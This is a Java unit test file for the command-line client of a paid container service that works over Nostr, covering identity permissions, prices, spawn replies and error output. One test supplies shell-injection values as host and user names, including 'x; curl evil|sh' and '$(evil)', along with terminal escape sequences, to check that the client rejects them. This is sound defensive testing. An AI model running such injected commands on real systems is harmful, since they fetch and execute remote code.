package org.paygress.consumer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.file.Files;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.paygress.cashu.token.PaymentRequest;
import org.paygress.consumer.cli.Output;
import org.paygress.protocol.WorkloadId;
import org.paygress.protocol.message.AccessDetails;
import org.paygress.protocol.message.ErrorReply;
import org.paygress.protocol.message.ErrorType;
import org.paygress.protocol.message.SpawnRequest;
import org.paygress.protocol.message.StatusRequest;
import org.paygress.protocol.message.StatusResponse;
import org.paygress.protocol.message.TemplatePort;
import org.paygress.protocol.message.TopUpRequest;
import org.paygress.protocol.message.TopUpResponse;
import org.paygress.protocol.money.MintUrl;
import org.paygress.protocol.nostr.DmKind;
import org.paygress.protocol.nostr.SecretKey;
import org.paygress.protocol.volume.VolumeEncryption;
import org.paygress.protocol.volume.VolumeKeyDerivation;
import org.paygress.system.Parsed;
import org.paygress.testbed.relay.RelayFault;

/** The command line as its user meets it, against a real relay and a provider that answers. */
class PaygressTest extends CommandLineTest {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final AccessDetails ACCESS =
      new AccessDetails(
          "container-1000",
          31_000,
          EXPIRY,
          1000,
          1024,
          "Basic",
          "small",
          List.of("line one", "evil \u001b[2J line"),
          Optional.of("127.0.0.1"),
          List.of(new TemplatePort(31_001, 5432, "tcp", "postgres")));

  @Test
  void an_identity_is_made_once_and_readable_by_its_owner_alone() throws Exception {
    Run first = paygress("identity");
    assertThat(first.exit()).isZero();
    assertThat(first.out()).startsWith("npub1");
    assertThat(Files.getPosixFilePermissions(dir.resolve("identity")))
        .isEqualTo(PosixFilePermissions.fromString("rw-------"));
    assertThat(paygress("identity").out()).isEqualTo(first.out());
    assertThat(first.out() + first.err()).doesNotContain(identity().nsec());
  }

  @Test
  void an_identity_that_others_can_read_is_refused() throws Exception {
    paygress("identity");
    Files.setPosixFilePermissions(
        dir.resolve("identity"), PosixFilePermissions.fromString("rw-r--r--"));
    Run run = paygress("identity");
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err()).contains("others can read", "remedy: run: chmod 600");
  }

  @Test
  void an_error_is_an_object_for_programs_too() throws Exception {
    String refund = token;
    provider.answer(_ -> ErrorReply.refund(ErrorType.PROVISIONING_ERROR, "no container", refund));
    Run run = ask("spawn", provider.npub(), "--token-file=" + dir.resolve("token"), "--json");
    assertThat(run.exit()).isEqualTo(1);
    JsonNode error = JSON.readTree(run.out()).get("error");
    assertThat(error.get("error_type").textValue()).isEqualTo("provisioning_error");
    assertThat(error.get("message").textValue()).isEqualTo("no container");
    assertThat(error.get("refund_token").textValue()).isEqualTo(refund);
    assertThat(error.get("remedy").textValue()).isNotBlank();

    Run lost = paygress("list", "--relay=http://127.0.0.1:1", "--json");
    assertThat(JSON.readTree(lost.out()).at("/error/message").textValue())
        .isEqualTo("http://127.0.0.1:1 is no address of a relay");
    assertThat(paygress("list", "--relay=http://127.0.0.1:1").out()).isEmpty();
  }

  @Test
  void a_price_is_a_payment_request_for_any_wallet() throws Exception {
    MintUrl mint = MintUrl.of("https://mint.example.com");
    provider.advertise(mint, true);
    // 50 msat a second.
    Run run = ask("price", provider.npub(), "--minutes=7", "--json");
    assertThat(run.exit()).as(run.err()).isZero();
    JsonNode json = JSON.readTree(run.out());
    assertThat(json.get("amount").longValue()).isEqualTo(21);
    assertThat(PaymentRequest.parse(json.get("payment_request").textValue()))
        .isEqualTo(Parsed.ok(PaymentRequest.of(21, "sat", List.of(mint), "basic for 7 minutes")));

    assertThat(ask("price", provider.npub(), "--minutes=1").out())
        .contains("basic costs 3 sat for 1 minutes", "mint.example.com", "creqA");
    assertThat(ask("price", provider.npub(), "--tier=none").err()).contains("no such tier");
    assertThat(ask("price", provider.npub(), "--minutes=0").err()).contains("out of range");
    assertThat(ask("price", SecretKey.generate().publicKey().npub()).err())
        .contains("no offer of that provider");
  }

  @ParameterizedTest
  @EnumSource(names = {"OVERSIZE_EVENTS", "ENDLESS_EVENTS"})
  void a_message_that_is_too_long_hides_none_that_comes_after_it(RelayFault fault)
      throws Exception {
    MintUrl mint = MintUrl.of("https://mint.example.com");
    provider.advertise(mint, true);
    try (AnsweringProvider second = new AnsweringProvider(relay.url())) {
      second.advertise(mint, true);
      await().until(() -> relay.events().size() == 4);
      relay.misbehave(fault);
      assertThat(ask("list").out()).contains(provider.npub(), second.npub());
    }
  }

  @Test
  void a_spawn_prints_how_to_log_in_and_what_to_keep() throws Exception {
    provider.answer(_ -> ACCESS);
    Run run =
        ask(
            "spawn",
            provider.npub(),
            "--template=postgres",
            "--user=alice",
            "--token-file=" + dir.resolve("token"));
    assertThat(run.exit()).as(run.err()).isZero();
    assertThat(run.out()).contains("line one", "Pod: container-1000", "Workload id: ");
    assertThat(run.out()).as("no terminal escapes").doesNotContain("\u001b");
    assertThat(provider.asked())
        .singleElement()
        .isInstanceOfSatisfying(
            SpawnRequest.class,
            request -> {
              assertThat(request.cashuToken()).isEqualTo(token);
              assertThat(request.sshUsername().value()).isEqualTo("alice");
              assertThat(request.templateSlug()).contains("postgres");
              WorkloadId workload = request.workloadId().orElseThrow();
              assertThat(run.out()).contains(workload.value());
              assertThat(request.volumeEncryption())
                  .contains(new VolumeEncryption(VolumeKeyDerivation.derive(key(), workload)));
            });
  }

  private SecretKey key() {
    try {
      return identity();
    } catch (Exception e) {
      throw new AssertionError(e);
    }
  }

  @Test
  void json_is_one_object_with_everything_a_program_needs() throws Exception {
    provider.answer(_ -> ACCESS);
    Run run = ask("spawn", provider.npub(), "--json", "--token-file=" + dir.resolve("token"));
    JsonNode json = JSON.readTree(run.out());
    assertThat(json.get("pod_id").asText()).isEqualTo("container-1000");
    assertThat(json.get("ssh_port").asInt()).isEqualTo(31_000);
    assertThat(json.get("ssh_username").asText()).isEqualTo("user");
    assertThat(json.get("ssh_password").asText()).hasSizeGreaterThanOrEqualTo(16);
    assertThat(json.get("ports").get(0).get("host_port").asInt()).isEqualTo(31_001);
    assertThat(json.get("encrypted").asBoolean()).isFalse();
    assertThat(run.err()).isEmpty();
  }

  @Test
  void a_gift_wrap_is_sent_when_asked_for_and_its_answer_read() {
    provider.answer(_ -> RUNNING);
    Run run = ask("status", provider.npub(), "container-1000", "--nip17");
    assertThat(run.exit()).as(run.err()).isZero();
    assertThat(provider.kinds()).containsExactly(DmKind.NIP17);
    assertThat(run.out()).contains("1000, Running");
  }

  @ParameterizedTest
  @CsvSource({
    "x; curl evil|sh,user",
    "-oProxyCommand=evil,user",
    "127.0.0.1,user; evil",
    "127.0.0.1,$(evil)",
    "'',user"
  })
  void a_line_for_the_shell_is_made_of_names_only(String host, String user) {
    provider.answer(
        _ -> new StatusResponse("1000", "Running", EXPIRY, 60, 1000, 1024, host, 31_000, user));
    Run run = ask("status", provider.npub());
    assertThat(run.exit()).isZero();
    assertThat(run.out()).contains("names a host or a user that cannot be one");
    assertThat(run.out()).doesNotContain("ssh -p", "evil");
  }

  @ParameterizedTest
  @CsvSource({"box.example.org", "192.0.2.7", "2001:db8::7"})
  void a_line_for_the_shell_names_the_host(String host) {
    provider.answer(
        _ -> new StatusResponse("1000", "Running", EXPIRY, 60, 1000, 1024, host, 31_000, "user"));
    assertThat(ask("status", provider.npub()).out()).contains("ssh -p 31000 user@" + host);
  }

  @Test
  void objects_for_programs_steer_no_terminal_either() {
    provider.answer(
        _ ->
            new StatusResponse(
                "10\u009b31m00", "Run\u001bning", EXPIRY, 60, 1000, 1024, "h", 31_000, "user"));
    assertThat(ask("status", provider.npub(), "--json").out())
        .contains("10\\u009b31m00", "Run\\u001Bning")
        .doesNotContain("\u009b", "\u001b");
  }

  @Test
  void status_without_a_pod_asks_for_the_newest_by_our_own_key() throws Exception {
    provider.answer(_ -> RUNNING);
    ask("status", provider.npub());
    assertThat(provider.asked()).containsExactly(new StatusRequest(identity().publicKey().npub()));
  }

  @Test
  void a_top_up_says_the_new_expiry() {
    provider.answer(_ -> new TopUpResponse(true, "container-1000", 200, EXPIRY, "extended"));
    Run run =
        ask("topup", provider.npub(), "container-1000", "--token-file=" + dir.resolve("token"));
    assertThat(run.out()).contains("extended", "2026-11-22T16:52:06Z");
    assertThat(provider.asked()).containsExactly(new TopUpRequest("container-1000", token, true));
  }

  @Test
  void a_providers_error_is_shown_with_its_remedy_and_the_refund() {
    provider.answer(
        _ -> ErrorReply.refund(ErrorType.PROVISIONING_ERROR, "no luck", "cashuBrefund"));
    Run run = ask("spawn", provider.npub(), "--token-file=" + dir.resolve("token"));
    assertThat(run.exit()).isEqualTo(1);
    assertThat(run.err())
        .contains("no luck [provisioning_error]", "remedy: ", "refund token: cashuBrefund");
  }

  @Test
  void a_pending_token_is_not_said_to_be_still_the_users() {
    provider.answer(_ -> ErrorReply.of(ErrorType.TOKEN_PENDING, "the token is pending"));
    Run run = ask("spawn", provider.npub(), "--token-file=" + dir.resolve("token"));
    assertThat(run.err())
        .contains("an earlier request with it may be being served", "with the same token")
        .doesNotContain("still yours");
  }

  @Test
  void an_error_of_a_kind_we_do_not_know_is_shown_as_it_came() throws Exception {
    provider.answerText(
        """
        {"error_type":"solar_flare","message":"the sun","details":"wait for the night"}""");
    Run run = ask("status", provider.npub());
    assertThat(run.err()).contains("the sun [solar_flare]", "details: wait for the night");
    JsonNode error = Output.JSON.readTree(ask("status", provider.npub(), "--json").out());
    assertThat(error.at("/error/error_type").textValue()).isEqualTo("solar_flare");
  }

  @Test
  void an_answer_that_cannot_be_read_is_told_from_silence() {
    provider.answerText("{\"pod_id\":7}");
    String payment = "--token-file=" + dir.resolve("token");
    assertThat(ask("topup", provider.npub(), "container-1000", payment, "--wait=2").err())
        .contains("the provider did not answer within 2 s; what it said cannot be read: ");
  }

  @Test
  void a_volume_key_is_derived_again_from_identity_and_workload_id() throws Exception {
    paygress("identity");
    Run run = paygress("volume-key", "workload-abc");
    assertThat(run.out().strip())
        .isEqualTo(
            VolumeKeyDerivation.derive(identity(), WorkloadId.of("workload-abc")).toBase64());
  }

  @Test
  void mistakes_are_named_with_a_remedy_and_nothing_is_sent() {
    assertThat(ask("spawn", "not-a-key", "--token-file=" + dir.resolve("token")).err())
        .contains("not a public key");
    assertThat(ask("spawn", provider.npub()).err()).contains("no payment is given");
    assertThat(ask("spawn", provider.npub(), "--token=cashuBnonsense").err())
        .contains("no Cashu token");
    assertThat(paygress("status", provider.npub(), "--relay=ws://127.0.0.1:9").err())
        .contains("can be reached");
    assertThat(provider.asked()).isEmpty();
  }

  @Test
  void an_answer_to_another_request_is_not_taken_for_ours() {
    provider.confuse(ErrorReply.of(ErrorType.BACKEND_ERROR, "for somebody else"));
    provider.answer(_ -> RUNNING);
    assertThat(ask("status", provider.npub()).out()).contains("1000, Running");
    provider.answer(_ -> ACCESS);
    Run run = ask("spawn", provider.npub(), "--token-file=" + dir.resolve("token"));
    assertThat(run.exit()).isZero();
    assertThat(run.err()).doesNotContain("for somebody else");
  }
}
